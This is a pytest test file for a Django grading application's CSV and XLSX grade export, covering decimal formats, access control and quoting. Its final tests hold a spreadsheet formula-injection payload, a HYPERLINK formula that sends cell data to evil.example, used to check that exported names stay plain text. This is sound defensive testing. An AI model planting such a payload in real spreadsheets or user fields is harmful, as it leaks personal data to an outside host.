"""The export for the exam office: CSV (streamed) and XLSX with every student, decimal comma or point."""

import csv
import io

import pytest
from openpyxl import load_workbook

from grading import exports, selectors, services

from .helpers import PRESENTATION, REPORT, export_url, make_world, set_grade

pytestmark = pytest.mark.django_db

HEADER = ["Matriculation number", "Name", "E-mail", "Presentation", "Report", "Final grade", "Band"]


@pytest.fixture
def world():
    world = make_world()
    set_grade(world.seminar, world.me, PRESENTATION, "1,3", grader=world.instructor)
    set_grade(world.seminar, world.me, REPORT, "2,0", grader=world.instructor)
    set_grade(world.seminar, world.other, PRESENTATION, "2,7", grader=world.instructor)
    return world


@pytest.fixture
def instructor_client(client, world):
    client.force_login(world.instructor)
    return client


def csv_rows(response, delimiter: str) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=delimiter))


def xlsx_rows(response) -> list[list]:
    workbook = load_workbook(io.BytesIO(response.content), read_only=True)
    [sheet] = workbook.worksheets
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_export_csv_with_decimal_comma_lists_every_student(instructor_client, world):
    response = instructor_client.get(export_url(world.seminar, "csv", "comma"))

    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == f'attachment; filename="grades-{world.seminar.slug}.csv"'
    assert csv_rows(response, ";") == [
        HEADER,
        ["03700001", "Mia Me", "mia@uni.example", "1,3", "2,0", "1,5", "sehr gut"],
        ["03700002", "Otto Other", "otto@uni.example", "2,7", "", "incomplete", ""],
    ]


def test_export_csv_with_decimal_point_uses_commas_between_fields(instructor_client, world):
    response = instructor_client.get(export_url(world.seminar, "csv", "point"))

    assert csv_rows(response, ",") == [
        HEADER,
        ["03700001", "Mia Me", "mia@uni.example", "1.3", "2.0", "1.5", "sehr gut"],
        ["03700002", "Otto Other", "otto@uni.example", "2.7", "", "incomplete", ""],
    ]


@pytest.mark.parametrize(("decimal", "mark"), [("comma", ","), ("point", ".")])
def test_export_xlsx_lists_every_student(instructor_client, world, decimal, mark):
    response = instructor_client.get(export_url(world.seminar, "xlsx", decimal))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == f'attachment; filename="grades-{world.seminar.slug}.xlsx"'
    assert xlsx_rows(response) == [
        HEADER,
        ["03700001", "Mia Me", "mia@uni.example", f"1{mark}3", f"2{mark}0", f"1{mark}5", "sehr gut"],
        ["03700002", "Otto Other", "otto@uni.example", f"2{mark}7", None, "incomplete", None],
    ]


def test_export_follows_the_rules_of_the_seminar(instructor_client, world):
    services.grading_settings_set(seminar=world.seminar, rounding="step", must_pass_all=True)

    rows = csv_rows(instructor_client.get(export_url(world.seminar, "csv", "point")), ",")

    assert rows[1][5:] == ["1.7", "gut"]


def test_export_with_a_quote_and_separator_in_a_name_keeps_the_columns(instructor_client, world):
    world.me.full_name = 'Mia "Mimi"; Me, Jr.'
    world.me.save()

    rows = csv_rows(instructor_client.get(export_url(world.seminar, "csv", "comma")), ";")

    assert rows[1][:2] == ["03700001", 'Mia "Mimi"; Me, Jr.']
    assert all(len(row) == len(HEADER) for row in rows)


@pytest.mark.parametrize("query", ["", "?file_format=pdf&decimal=comma", "?file_format=csv&decimal=dot"])
def test_export_with_an_unknown_format_returns_to_the_sheet(instructor_client, world, query):
    url = export_url(world.seminar).split("?")[0] + query

    response = instructor_client.get(url)

    assert response.status_code == 302


def test_export_rows_of_the_selector_match_the_file(world):
    rows = selectors.grading_sheet(world.seminar, world.instructor, "instructor")

    assert list(exports.export_rows(rows, decimal_comma=True))[0] == [
        "03700001",
        "Mia Me",
        "mia@uni.example",
        "1,3",
        "2,0",
        "1,5",
        "sehr gut",
    ]


@pytest.mark.parametrize("who", ["me", "supervisor", "foreign_instructor", "foreign_student", "outsider"])
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_export_by_anyone_but_the_seminars_instructor_is_forbidden(client, world, who, file_format):
    client.force_login(getattr(world, who))

    response = client.get(export_url(world.seminar, file_format, "comma"))

    assert response.status_code == 403
    assert b"Mia Me" not in response.content


def test_export_of_a_draft_seminar_by_another_seminars_instructor_is_404(client):
    world = make_world(state="draft")
    client.force_login(world.foreign_instructor)

    assert client.get(export_url(world.seminar, "csv", "comma")).status_code == 404


FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A2,"Mia")'


def test_export_xlsx_with_a_name_like_a_formula_keeps_it_as_text(instructor_client, world):
    world.me.full_name = FORMULA_NAME
    world.me.save()

    response = instructor_client.get(export_url(world.seminar, "xlsx", "comma"))

    workbook = load_workbook(io.BytesIO(response.content))
    cell = workbook.worksheets[0]["B2"]
    assert cell.data_type == "s"


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_export_csv_with_a_name_like_a_formula_cannot_start_a_formula(instructor_client, world, start):
    world.me.full_name = start + FORMULA_NAME[1:]
    world.me.save()

    rows = csv_rows(instructor_client.get(export_url(world.seminar, "csv", "comma")), ";")

    assert not rows[1][1].startswith(("=", "+", "-", "@"))
